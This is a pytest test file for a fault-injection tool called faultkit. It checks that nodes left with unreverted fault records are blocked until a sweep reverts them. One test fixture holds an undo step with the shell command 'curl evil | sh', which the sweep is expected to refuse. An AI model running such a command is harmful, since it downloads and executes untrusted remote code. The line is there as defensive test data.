"""A node that a fault left applied is BLOCKED: an unreverted record of a dead harness on a
node refuses every new fault there (nothing journaled or done) until the sweep reverts it;
`faultkit sweep`, `sweep --list` and `inject --dry-run` say so."""

from __future__ import annotations

import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from faultkit.cli import cli
from faultkit.errors import FaultRefused
from faultkit.faults import undo
from faultkit.faults.locks import lock_key
from faultkit.inventory import Node
from faultkit.journal import FaultJournal, JournalRecord
from faultkit.model.records import Event
from faultkit.sweep import sweep
from tests.unit.faults_fake import WORLD, FakeFault, node
from tests.unit.inventory_text import one_node_inventory

SOCK = "unix:///var/run/docker.sock"


@pytest.fixture(autouse=True)
def _clean_world() -> None:
    WORLD.clear()


@undo.op("fake_still_broken")
def _fake_still_broken(step: Mapping[str, Any]) -> str:
    raise RuntimeError(f"{step['key']} will not come back")


async def crash(fault: FakeFault, journal: FaultJournal) -> None:
    """Inject ``fault`` and let its harness "die": the record stays, its locks are freed."""
    await fault.inject()
    journal.release(fault.id)


def left_record(journal: FaultJournal, target: Node, *, age_s: float = 0.0,
                undo_steps: list[dict[str, Any]] | None = None,
                node_locks: list[str] | None = None) -> JournalRecord:
    """Write a record as a harness that died ``age_s`` ago would have left it."""
    record = JournalRecord(
        id=f"pause-{target.name}-0badc0de", kind="pause", node=target.name,
        description=f"pause on {target.name} (engine)",
        undo=undo_steps if undo_steps is not None else [
            {"op": "fake_restore", "key": "left", "value": "ok"}],
        node_locks=node_locks if node_locks is not None else [lock_key(target)],
        t_created=time.time() - age_s,
    )
    journal.begin(record)
    journal.release(record.id)
    return record


def assert_nothing_done(fault: FakeFault, journal_dir: Path, before: list[str]) -> None:
    assert fault.params["key"] not in WORLD
    assert [r.id for r in FaultJournal(journal_dir).records()] == before
    assert FaultJournal(journal_dir).nodes.holders() == []  # its node lock was given back
    assert not fault.active


async def test_an_orphaned_record_blocks_the_node_and_the_message_says_what_to_do(
    tmp_path: Path,
) -> None:
    journal = FaultJournal(tmp_path)
    record = left_record(journal, node(), age_s=2 * 3600)
    events: list[Event] = []
    fault = FakeFault(node(), journal=FaultJournal(tmp_path), key="new",
                      timeline=events.append)
    with pytest.raises(FaultRefused) as refused:
        await fault.inject()
    message = str(refused.value)
    assert "\n" not in message
    assert f"node n1 is BLOCKED by fault {record.id} ({record.description})" in message
    assert "left applied 2 h ago" in message
    assert ("Run `faultkit sweep` (or `faultkit sweep --force` for records older than 1 h) "
            "and check the node, then retry. Nothing was done.") in message
    assert events == []  # refused before inject_start
    assert_nothing_done(fault, tmp_path, [record.id])
    await fault.revert()  # refused: nothing to revert
    assert WORLD == {}


async def test_a_failed_revert_blocks_the_node_until_the_sweep_reverts_it(
    tmp_path: Path,
) -> None:
    journal = FaultJournal(tmp_path)
    crashed = FakeFault(node(), journal=journal, key="a")
    await crash(crashed, journal)  # a revert that failed leaves the same: an orphan
    assert WORLD == {"a": "broken"}
    second = FakeFault(node(), journal=FaultJournal(tmp_path), key="b")
    with pytest.raises(FaultRefused, match=f"BLOCKED by fault {crashed.id} "):
        await second.inject()
    assert "b" not in WORLD  # it did not stack on the first
    (line,) = sweep(FaultJournal(tmp_path))
    assert line.startswith(f"reverted {crashed.id}")
    async with FakeFault(node(), journal=FaultJournal(tmp_path), key="b"):
        assert WORLD == {"a": "ok", "b": "broken"}
    assert WORLD == {"a": "ok", "b": "ok"}


@pytest.mark.parametrize(("why", "steps", "age_s"), [
    ("FAILED", [{"op": "fake_still_broken", "key": "left"}], 0.0),
    ("REFUSED", [{"op": "shell", "command": "curl evil | sh"}], 0.0),
    ("NOT REPLAYED", [{"op": "fake_restore", "key": "left", "value": "ok"}], 2 * 3600.0),
])
async def test_what_the_sweep_leaves_applied_keeps_the_node_blocked(
    tmp_path: Path, why: str, steps: list[dict[str, Any]], age_s: float,
) -> None:
    record = left_record(FaultJournal(tmp_path), node(), undo_steps=steps, age_s=age_s)
    (line,) = sweep(FaultJournal(tmp_path))
    assert line.startswith(why)
    fault = FakeFault(node(), journal=FaultJournal(tmp_path), key="new")
    with pytest.raises(FaultRefused, match=f"BLOCKED by fault {record.id} "):
        await fault.inject()
    assert_nothing_done(fault, tmp_path, [record.id])


async def test_a_reverted_record_does_not_block(tmp_path: Path) -> None:
    async with FakeFault(node(), journal=FaultJournal(tmp_path), key="a"):
        pass
    async with FakeFault(node(), journal=FaultJournal(tmp_path), key="b"):
        assert WORLD["b"] == "broken"


async def test_another_nodes_record_does_not_block(tmp_path: Path) -> None:
    left_record(FaultJournal(tmp_path), node("n2"))
    async with FakeFault(node("n1"), journal=FaultJournal(tmp_path), key="b"):
        assert WORLD["b"] == "broken"


async def test_one_container_under_another_name_is_blocked_too(tmp_path: Path) -> None:
    docker = {"host": SOCK, "container": "engine"}
    record = left_record(FaultJournal(tmp_path), node("a", docker=docker))
    fault = FakeFault(node("b", docker=docker), journal=FaultJournal(tmp_path), key="b")
    with pytest.raises(FaultRefused, match=f"node a is BLOCKED by fault {record.id} "):
        await fault.inject()


async def test_a_record_of_a_live_harness_is_the_node_locks_business(tmp_path: Path) -> None:
    live = FakeFault(node(), journal=FaultJournal(tmp_path), key="a")
    async with live:
        second = FakeFault(node(), journal=FaultJournal(tmp_path), key="b")
        with pytest.raises(FaultRefused) as refused:
            await second.inject()
        assert f"locked by fault {live.id}" in str(refused.value)
        assert "BLOCKED" not in str(refused.value)


async def test_a_record_with_nothing_to_undo_and_no_node_lock_blocks_nothing(
    tmp_path: Path,
) -> None:
    """A request fault's record (flood): nothing on the node to put back."""
    left_record(FaultJournal(tmp_path), node(), undo_steps=[], node_locks=[])
    async with FakeFault(node(), journal=FaultJournal(tmp_path), key="b"):
        assert WORLD["b"] == "broken"


async def test_a_record_older_than_node_locks_blocks_its_node_by_name(tmp_path: Path) -> None:
    record = left_record(FaultJournal(tmp_path), node(), node_locks=[])
    with pytest.raises(FaultRefused, match=f"BLOCKED by fault {record.id} "):
        await FakeFault(node(), journal=FaultJournal(tmp_path), key="b").inject()


# the commands ------------------------------------------------------------------------

INVENTORY = one_node_inventory(candidate="img")


def _inventory_node(path: Path) -> Node:
    from faultkit.inventory import load_inventory

    return load_inventory(path).node("n")


@pytest.fixture
def inv(tmp_path: Path) -> Path:
    path = tmp_path / "inv.yaml"
    path.write_text(INVENTORY)
    return path


def test_sweep_list_and_sweep_show_the_node_blocked(tmp_path: Path, inv: Path) -> None:
    journal_dir = tmp_path / "journal"
    record = left_record(FaultJournal(journal_dir), _inventory_node(inv), age_s=2 * 3600)
    listed = CliRunner().invoke(cli, ["sweep", "--list", "--journal-dir", str(journal_dir)])
    assert listed.exit_code == 0, listed.output
    assert f"BLOCKED node n: fault {record.id} ({record.description}), left applied 2 h ago" \
        in listed.output
    swept = CliRunner().invoke(cli, ["sweep", "--inventory", str(inv),
                                     "--journal-dir", str(journal_dir)])
    assert swept.exit_code == 1, swept.output
    assert swept.output.startswith(f"NOT REPLAYED {record.id}")
    assert f"BLOCKED node n: fault {record.id}" in swept.output


@pytest.mark.parametrize("dry_run", [True, False])
def test_inject_is_refused_on_a_blocked_node_exit_2_and_touches_nothing(
    tmp_path: Path, inv: Path, dry_run: bool,
) -> None:
    journal_dir = tmp_path / "journal"
    record = left_record(FaultJournal(journal_dir), _inventory_node(inv), age_s=2 * 3600)
    args = ["inject", "pause", "--node", "n", "--inventory", str(inv),
            "--journal-dir", str(journal_dir), "--duration", "1s"]
    result = CliRunner().invoke(cli, args + (["--dry-run"] if dry_run else []))
    assert result.exit_code == 2, result.output
    assert f"node n is BLOCKED by fault {record.id}" in result.stderr
    assert "plan:" not in result.output
    assert [r.id for r in FaultJournal(journal_dir).records()] == [record.id]
    assert FaultJournal(journal_dir).nodes.holders() == []


def test_a_dry_run_without_a_journal_creates_none(tmp_path: Path, inv: Path) -> None:
    journal_dir = tmp_path / "journal"
    result = CliRunner().invoke(cli, ["inject", "pause", "--node", "n", "--inventory", str(inv),
                                      "--journal-dir", str(journal_dir), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert result.output.startswith("plan: pause on n")
    assert not journal_dir.exists()


def test_a_gate_dry_run_on_a_blocked_node_is_refused_before_its_scenarios(
    tmp_path: Path, inv: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("FAULTKIT_HOME", str(tmp_path / "home"))
    journal_dir = tmp_path / "home" / "journal"
    record = left_record(FaultJournal(journal_dir), _inventory_node(inv))
    result = CliRunner().invoke(cli, ["gate", "--inventory", str(inv), "--node", "n",
                                      "--config", "candidate", "--out", str(tmp_path / "runs"),
                                      "--dry-run"])
    assert result.exit_code == 2, result.output
    assert f"node n is BLOCKED by fault {record.id}" in result.stderr
    assert "gate plan" not in result.output  # refused before the plan and its scenario run
